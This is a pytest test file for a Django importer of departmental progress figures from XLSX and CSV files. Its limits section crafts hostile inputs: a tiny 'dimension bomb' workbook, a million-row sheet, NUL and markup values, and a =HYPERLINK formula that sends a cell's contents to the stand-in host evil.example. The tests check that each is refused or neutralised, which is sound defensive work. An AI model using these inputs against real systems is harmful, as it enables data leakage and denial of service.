"""Figures by spreadsheet: the department's template, and `import_progress` on XLSX and CSV files.
One bad row stores nothing and every row's error is printed; a good file stores every row as a
figure submitted for review."""

import csv
import datetime
import io
import json
import subprocess
import sys
import zipfile
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook

from apps.goals.models import ProgressUpdate
from apps.goals.services.progress_import import (
    COLUMNS,
    SheetUnreadable,
    progress_rows_read,
    progress_template,
)

from ..factories import GoalFactory, ProgressUpdateFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("mid_july_2024")]

HEADER = [label for _, label in COLUMNS]


@pytest.fixture
def goals(department, other_department):
    return {
        "stations": GoalFactory(slug="5g-stations", unit="个", lead_department=department),
        "output": GoalFactory(
            slug="digital-output", unit="亿元", target_value=Decimal("1700"), lead_department=department
        ),
        "theirs": GoalFactory(slug="industry-output", unit="亿元", lead_department=other_department),
    }


def row(goal, unit, as_of, value, evidence="https://example.com/report", final="否", note=""):
    return [goal, "", unit, "", "", "", as_of, value, final, evidence, note]


def write(tmp_path, rows, kind):
    path = tmp_path / f"figures.{kind}"
    if kind == "xlsx":
        book = Workbook()
        book.active.append(HEADER)
        for values in rows:
            book.active.append(values)
        book.save(path)
    else:
        with path.open("w", encoding="utf-8", newline="") as out:
            csv.writer(out).writerows([HEADER, *rows])
    return path


GOOD_ROWS = [
    row("5g-stations", "个", "2024-06-30", "3600", final="否", note="上半年"),
    row("digital-output", "亿元", "2024-06-30", "820.5", final="是"),
]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_good_file_stores_every_row_as_submitted(tmp_path, goals, recorder, kind):
    out = io.StringIO()
    call_command("import_progress", str(write(tmp_path, GOOD_ROWS, kind)), user="recorder", stdout=out)

    stored = ProgressUpdate.objects.order_by("goal__slug")
    assert [(u.goal.slug, u.as_of, u.value, u.is_final) for u in stored] == [
        ("5g-stations", datetime.date(2024, 6, 30), Decimal("3600"), False),
        ("digital-output", datetime.date(2024, 6, 30), Decimal("820.5"), True),
    ]
    assert {u.review_state for u in stored} == {ProgressUpdate.ReviewState.SUBMITTED}
    assert {u.recorded_by for u in stored} == {recorder}
    assert stored[0].note == "上半年"
    assert "2 figures stored and submitted for review" in out.getvalue()


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_one_bad_row_stores_nothing_and_every_row_error_is_printed(tmp_path, goals, recorder, kind):
    rows = [
        *GOOD_ROWS,
        row("no-such-goal", "个", "2024-06-30", "1"),
        row("industry-output", "亿元", "2024-06-30", "10"),
        row("5g-stations", "个", "2024-05-31", "三千"),
        row("digital-output", "万亿元", "2024-05-31", "0.08"),
        row("5g-stations", "个", "2024-08-31", "4000"),
        row("digital-output", "亿元", "2024-03-31", "400", evidence=""),
    ]
    err = io.StringIO()
    with pytest.raises(CommandError, match="nothing was stored"):
        call_command("import_progress", str(write(tmp_path, rows, kind)), user="recorder", stderr=err)

    assert not ProgressUpdate.objects.exists()
    printed = err.getvalue()
    for number, words in [
        (4, "unknown goal “no-such-goal”"),
        (5, "another department's goal"),
        (6, "the value “三千” is not a number"),
        (7, "the unit must be “亿元”, not “万亿元”"),
        (8, "cannot be after today (2024-07-15)"),
        (9, "give an evidence link"),
    ]:
        assert f"row {number}: " in printed and words in printed, (number, words, printed)
    assert "row 2:" not in printed and "row 3:" not in printed


def test_dry_run_checks_and_stores_nothing(tmp_path, goals, recorder):
    out = io.StringIO()
    call_command(
        "import_progress", str(write(tmp_path, GOOD_ROWS, "csv")), user="recorder", dry_run=True, stdout=out
    )
    assert "All 2 rows are valid" in out.getvalue()
    assert not ProgressUpdate.objects.exists()


def test_a_recorder_of_another_department_imports_nothing_of_ours(tmp_path, goals, other_recorder):
    with pytest.raises(CommandError):
        call_command(
            "import_progress",
            str(write(tmp_path, GOOD_ROWS, "xlsx")),
            user="other_recorder",
            stderr=io.StringIO(),
        )
    assert not ProgressUpdate.objects.exists()


def test_a_file_without_the_template_header_is_refused(tmp_path, recorder):
    path = tmp_path / "figures.csv"
    path.write_text("name,amount\n5g,1\n", encoding="utf-8")
    with pytest.raises(CommandError, match="lacks the columns"):
        call_command("import_progress", str(path), user="recorder")


def test_the_template_lists_the_department_goals_with_unit_target_and_last_figure(goals, department):
    ProgressUpdateFactory(
        goal=goals["stations"],
        as_of=datetime.date(2024, 3, 31),
        value=Decimal("1500"),
        review_state=ProgressUpdate.ReviewState.APPROVED,
        reviewed_at=datetime.datetime(2024, 4, 20, tzinfo=datetime.UTC),
    )
    sheet = load_workbook(io.BytesIO(progress_template(department=department))).active
    rows = [[cell or "" for cell in r] for r in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADER
    by_slug = {r[0]: r for r in rows[1:]}
    assert set(by_slug) == {"5g-stations", "digital-output"}  # not the other department's goal
    assert by_slug["5g-stations"][2:6] == ["个", "≥ 7000 个", "1500", "2024-03-31"]
    assert by_slug["digital-output"][2:6] == ["亿元", "≥ 1700 亿元", "", ""]


def test_the_filled_in_template_imports(tmp_path, goals, department, recorder):
    book = load_workbook(io.BytesIO(progress_template(department=department)))
    sheet = book.active
    for r in sheet.iter_rows(min_row=2):
        if r[0].value == "5g-stations":
            r[6].value, r[7].value, r[9].value = datetime.date(2024, 6, 30), 3600, "https://example.com/q2"
    path = tmp_path / "template.xlsx"
    book.save(path)
    call_command("import_progress", str(path), user="recorder", stdout=io.StringIO())
    assert list(ProgressUpdate.objects.values_list("goal__slug", "value", "review_state")) == [
        ("5g-stations", Decimal("3600"), "submitted")
    ]


IMPORT = "/admin/goals/progressupdate/import/"


def upload(client, tmp_path, rows, kind="xlsx"):
    path = write(tmp_path, rows, kind)
    with path.open("rb") as sheet:
        return client.post(IMPORT, {"sheet": sheet})


def test_the_admin_preview_lists_each_row_error_and_offers_no_import(client, tmp_path, goals, recorder):
    client.force_login(recorder)
    response = upload(client, tmp_path, [*GOOD_ROWS, row("industry-output", "亿元", "2024-06-30", "10")])
    page = response.content.decode()
    assert response.status_code == 200
    assert 'data-row="4"' in page and "another department&#x27;s goal" in page
    assert page.count("✓ 无误 · valid") == 2
    assert 'name="payload"' not in page
    assert not ProgressUpdate.objects.exists()


def test_the_admin_stores_an_all_valid_sheet_once_confirmed(client, tmp_path, goals, recorder):
    client.force_login(recorder)
    preview = upload(client, tmp_path, GOOD_ROWS, kind="csv")
    assert not ProgressUpdate.objects.exists()  # a preview stores nothing
    payload = preview.context["payload"]

    done = client.post(IMPORT, {"payload": payload}, follow=True)
    assert "2 figures stored and submitted for review" in done.content.decode()
    assert ProgressUpdate.objects.filter(review_state="submitted", recorded_by=recorder).count() == 2

    tampered = client.post(IMPORT, {"payload": payload[:-2] + "xx"}, follow=True)
    assert "expired" in tampered.content.decode()
    assert ProgressUpdate.objects.count() == 2


def test_a_recorder_downloads_only_their_department_template(
    client, goals, recorder, department, other_department
):
    client.force_login(recorder)
    ours = client.get("/admin/goals/progressupdate/template/", {"department": department.slug})
    assert ours.status_code == 200
    assert load_workbook(io.BytesIO(ours.content)).active.max_row == 3
    theirs = client.get("/admin/goals/progressupdate/template/", {"department": other_department.slug})
    assert theirs.status_code == 403


# --- Limits: what a hostile or broken file costs (issue 22, items 1, 7 and 8) ----------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def xlsx_of(sheet_xml: bytes) -> bytes:
    """A minimal XLSX file around one worksheet's XML, written by hand as an attacker would."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
            f'Type="{OFFICE_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE_RELS}"><sheets>'
            '<sheet name="progress" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
            f'Type="{OFFICE_RELS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return out.getvalue()


def header_row() -> bytes:
    cells = "".join(f'<c t="inlineStr"><is><t>{key}</t></is></c>' for key, _ in COLUMNS)
    return f'<row r="1">{cells}</row>'.encode()


def dimension_bomb(declared: bool = True) -> bytes:
    """The sheet of issue 22, item 1: it declares A1:XFD1048576 and holds one cell at XFD1048576."""
    dimension = b'<dimension ref="A1:XFD1048576"/>' if declared else b""
    return xlsx_of(
        f'<worksheet xmlns="{MAIN}">'.encode()
        + dimension
        + b"<sheetData>"
        + header_row()
        + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    )


def million_rows() -> bytes:
    """A million rows and no declared dimension, and no end: the XML stops after the last row, so a
    reader that reads it all fails on the broken end instead of answering with the row limit."""
    return xlsx_of(
        f'<worksheet xmlns="{MAIN}"><sheetData>'.encode() + header_row() + b"<row><c/></row>" * 1_000_000
    )


# Reads the file in a fresh process and prints how far its peak memory rose above idle (after Django
# and openpyxl are loaded) and what the reader answered. The address space is capped 512 MB above
# idle so that a reader that runs away fails with MemoryError instead of taking the machine's memory.
MEASURE = """
import json, os, resource, sys
import django
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "jinan_targets.settings")
django.setup()
from apps.goals.services.progress_import import SheetUnreadable, progress_rows_read
mapped = int(open("/proc/self/statm").read().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (mapped + 512 * 1024 * 1024, resource.RLIM_INFINITY))
content = open(sys.argv[1], "rb").read()
idle = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    rows = progress_rows_read(name="sheet.xlsx", content=content)
    answer = f"read {len(rows)} rows"
except SheetUnreadable as error:
    answer = str(error)
except BaseException as error:
    answer = repr(error)[:200]
grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - idle
print(json.dumps({"grown_mb": grown / 1024, "answer": answer}))
"""


def read_in_a_child(tmp_path, content: bytes) -> dict:
    path = tmp_path / "sheet.xlsx"
    path.write_bytes(content)
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=settings.BASE_DIR,
        check=True,
    )
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("declared", [True, False], ids=["declared", "undeclared"])
def test_a_dimension_bomb_is_refused_without_building_its_rows(tmp_path, declared):
    content = dimension_bomb(declared)
    assert len(content) < 5_000
    measured = read_in_a_child(tmp_path, content)
    assert "At most 2000 rows" in measured["answer"], measured
    assert measured["grown_mb"] < 200, measured


def test_a_million_row_sheet_is_refused_at_the_row_limit_without_reading_the_rest(tmp_path):
    content = million_rows()
    measured = read_in_a_child(tmp_path, content)
    # The broken end lies a million rows further on: reaching it would have answered a parse error.
    assert "At most 2000 rows" in measured["answer"], measured
    assert measured["grown_mb"] < 200, measured


def test_too_many_columns_are_refused(tmp_path):
    cells = "".join(f'<c t="inlineStr"><is><t>{key}</t></is></c>' for key, _ in COLUMNS)
    wide = f'<worksheet xmlns="{MAIN}"><sheetData><row>{cells}{"<c/>" * 100}</row></sheetData></worksheet>'
    with pytest.raises(SheetUnreadable, match="at most 50 columns"):
        progress_rows_read(name="wide.xlsx", content=xlsx_of(wide.encode()))
    with pytest.raises(SheetUnreadable, match="at most 50 columns"):
        progress_rows_read(name="wide.csv", content=(",".join(HEADER) + "," * 60 + "\n").encode())


def test_a_hand_written_sheet_within_the_limits_is_read(tmp_path):
    """The generated files above are refused for their size, not their form."""
    cells = [("goal", "5g-stations"), ("as_of", "2024-06-30"), ("value", "3600")]
    values = "".join(f'<c t="inlineStr"><is><t>{value}</t></is></c>' for _, value in cells)
    keys = "".join(f'<c t="inlineStr"><is><t>{key}</t></is></c>' for key, _ in cells)
    url = '<c t="inlineStr"><is><t>evidence_url</t></is></c>'
    rows = f"<row>{keys}{url}</row><row>{values}</row>"
    sheet = f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    [only] = progress_rows_read(name="hand.xlsx", content=xlsx_of(sheet.encode()))
    assert only.cells == {"goal": "5g-stations", "as_of": "2024-06-30", "value": "3600", "evidence_url": ""}


def test_uploading_the_dimension_bomb_answers_a_clear_error(client, recorder, goals):
    client.force_login(recorder)
    response = client.post(IMPORT, {"sheet": SimpleUploadedFile("bomb.xlsx", dimension_bomb())})
    assert response.status_code == 200
    assert "At most 2000 rows can be imported at once" in response.content.decode()
    assert "payload" not in response.context


@pytest.mark.parametrize(
    ("cells", "words"),
    [
        ({"value": "1" * 23}, "数值 · value: "),
        ({"value": "1E+30"}, "数值 · value: "),
        ({"note": "a\x00b"}, "contains a NUL character"),
        ({"evidence": "https://example.com/" + "x" * 500}, "佐证链接 · evidence URL: "),
        ({"evidence": "https://example.com/<script>"}, "佐证链接 · evidence URL: "),
        ({"goal": "5g-stations\x00"}, "contains a NUL character"),
        ({"as_of": "0001-01-01"}, "cannot be before 2000-01-01"),
        ({"as_of": "20240101"}, "must be written YYYY-MM-DD"),
        ({"as_of": "2024-W01-1"}, "must be written YYYY-MM-DD"),
    ],
    ids=[
        "23-digits",
        "1E+30",
        "nul-in-note",
        "long-url",
        "markup-in-url",
        "nul-in-slug",
        "year-1",
        "basic",
        "week",
    ],
)
def test_the_preview_refuses_what_the_write_would_refuse(client, tmp_path, goals, recorder, cells, words):
    values = {
        "goal": "5g-stations",
        "as_of": "2024-06-30",
        "value": "3600",
        "evidence": "https://example.com/r",
    }
    values.update(cells)
    bad = row(
        values["goal"],
        "个",
        values["as_of"],
        values["value"],
        evidence=values["evidence"],
        note=values.get("note", ""),
    )
    client.force_login(recorder)
    response = upload(client, tmp_path, [bad], kind="csv")
    assert response.status_code == 200
    assert 'name="payload"' not in response.content.decode()
    [checked] = response.context["result"].rows
    assert any(words in error for error in checked.errors), checked.errors
    assert not ProgressUpdate.objects.exists()


def test_the_command_prints_the_error_of_a_row_the_database_would_refuse(tmp_path, goals, recorder):
    err = io.StringIO()
    path = write(tmp_path, [row("5g-stations", "个", "2024-06-30", "1E+30")], "csv")
    with pytest.raises(CommandError, match="nothing was stored"):
        call_command("import_progress", str(path), user="recorder", stderr=err)
    assert "row 2: 数值 · value: " in err.getvalue()
    assert not ProgressUpdate.objects.exists()


def test_a_confirmation_posted_again_stores_nothing_and_says_so(client, tmp_path, goals, recorder):
    client.force_login(recorder)
    payload = upload(client, tmp_path, GOOD_ROWS, kind="csv").context["payload"]
    client.post(IMPORT, {"payload": payload})
    assert ProgressUpdate.objects.count() == 2

    again = client.post(IMPORT, {"payload": payload}, follow=True)
    assert "This sheet was imported already; nothing was stored again" in again.content.decode()
    assert ProgressUpdate.objects.count() == 2

    # The same sheet uploaded and confirmed anew is a new import.
    fresh = upload(client, tmp_path, [row("5g-stations", "个", "2024-07-01", "3700")], kind="csv")
    client.post(IMPORT, {"payload": fresh.context["payload"]})
    assert ProgressUpdate.objects.count() == 3


def test_the_template_writes_a_formula_like_title_as_text(client, department, recorder):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    GoalFactory(slug="evil", title=title, unit="+1", lead_department=department)
    client.force_login(recorder)
    response = client.get("/admin/goals/progressupdate/template/", {"department": department.slug})
    sheet = load_workbook(io.BytesIO(response.content)).active
    [cells] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == "evil"]
    assert (cells[1].value, cells[1].data_type) == (title, "s")  # shown as typed, never evaluated
    assert (cells[2].value, cells[2].data_type) == ("+1", "s")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("number", ["2002", "1048576", "9" * 40, "9" * 5000])
def test_a_row_numbered_past_the_limit_is_refused(number):
    sheet = f'<worksheet xmlns="{MAIN}"><sheetData>'.encode() + header_row()
    sheet += f'<row r="{number}"><c><v>1</v></c></row></sheetData></worksheet>'.encode()
    with pytest.raises(SheetUnreadable, match="At most 2000 rows"):
        progress_rows_read(name="far.xlsx", content=xlsx_of(sheet))
